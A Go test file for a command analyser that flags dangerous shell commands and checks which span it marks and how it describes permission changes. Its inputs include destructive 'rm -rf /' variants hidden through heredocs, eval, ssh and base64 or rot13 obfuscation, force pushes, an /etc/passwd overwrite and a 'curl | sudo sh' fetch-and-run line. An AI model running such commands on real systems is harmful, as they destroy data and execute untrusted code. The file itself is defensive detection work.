package command

import "testing"

// What is marked is the part that does it, wherever it stands.
func TestThePartThatMatched(t *testing.T) {
	t.Parallel()
	a := newAnalyser(t)
	for text, want := range map[string]string{
		"FOO=1 sudo rm -rf /":                             "rm -rf /",
		"ls && rm -rf / > /dev/null; ls":                  "rm -rf /",
		`bash -c "rm -rf ~"`:                              "rm -rf ~",
		"sudo bash -c 'ls; rm -rf /etc'":                  "rm -rf /etc",
		"bash <<EOF\nls\nrm -rf /\nEOF\n":                 "rm -rf /",
		"cat <<'EOF' | sh\nls\nrm -rf /\nEOF\n":           "rm -rf /",
		"echo 'rm -rf /' | sh":                            "rm -rf /",
		"sh <<< 'rm -rf /'":                               "rm -rf /",
		"echo x | xargs rm -rf /":                         "rm -rf /",
		"nohup timeout 5 rm -rf / &":                      "rm -rf /",
		"for i in 1 2; do rm -rf /; done":                 "rm -rf /",
		"f() { rm -rf /; }; f":                            "rm -rf /",
		"ssh host 'rm -rf /'":                             "rm -rf /",
		"env A=1 git push --force origin main":            "git push --force origin main",
		"cd x && git reset --hard HEAD~3 && ls":           "git reset --hard HEAD~3",
		"echo hi > /etc/passwd":                           "> /etc/passwd",
		"ls; curl -fsSL https://x.example/i.sh | sudo sh": "curl -fsSL https://x.example/i.sh | sudo sh",
		`X='rm -rf /'; eval "$X"`:                         `eval "$X"`,
		`bash -c "rm -rf \"/\""`:                          `bash -c "rm -rf \"/\""`, // not the text that runs
		"find . -name x -exec rm -rf {} \\;":              `find . -name x -exec rm -rf {} \;`,
		"echo cm0gLXJmIC8= | base64 -d | sh":              "sh",
		"echo 'rz -ef /' | tr a-z n-za-m | sh":            "sh",
	} {
		got := judge(a, text)
		if got.Match != want || text[got.Span.Start:got.Span.End] != got.Match {
			t.Errorf("%q: marks %q, want %q (%s)", text, got.Match, want, got.Rule)
		}
	}
}

func TestEffectsReadWell(t *testing.T) {
	t.Parallel()
	a := newAnalyser(t)
	for text, want := range map[string]string{
		"chmod -R 777 .":         "Lets everybody on this machine change everything in this folder.",
		"chmod 777 a b":          "Lets everybody on this machine change a b.",
		"chmod -R 755 src":       "Changes the permissions of everything in src.",
		"chown -R root:root src": "Gives everything in src to another owner.",
		"chmod -w /etc":          "Changes the permissions of /etc.",
		"chmod --reference=a /x": "Changes the permissions of /x.",
	} {
		if got := judge(a, text); got.Effect != want {
			t.Errorf("%q: %q, want %q (%s)", text, got.Effect, want, got.Rule)
		}
	}
}
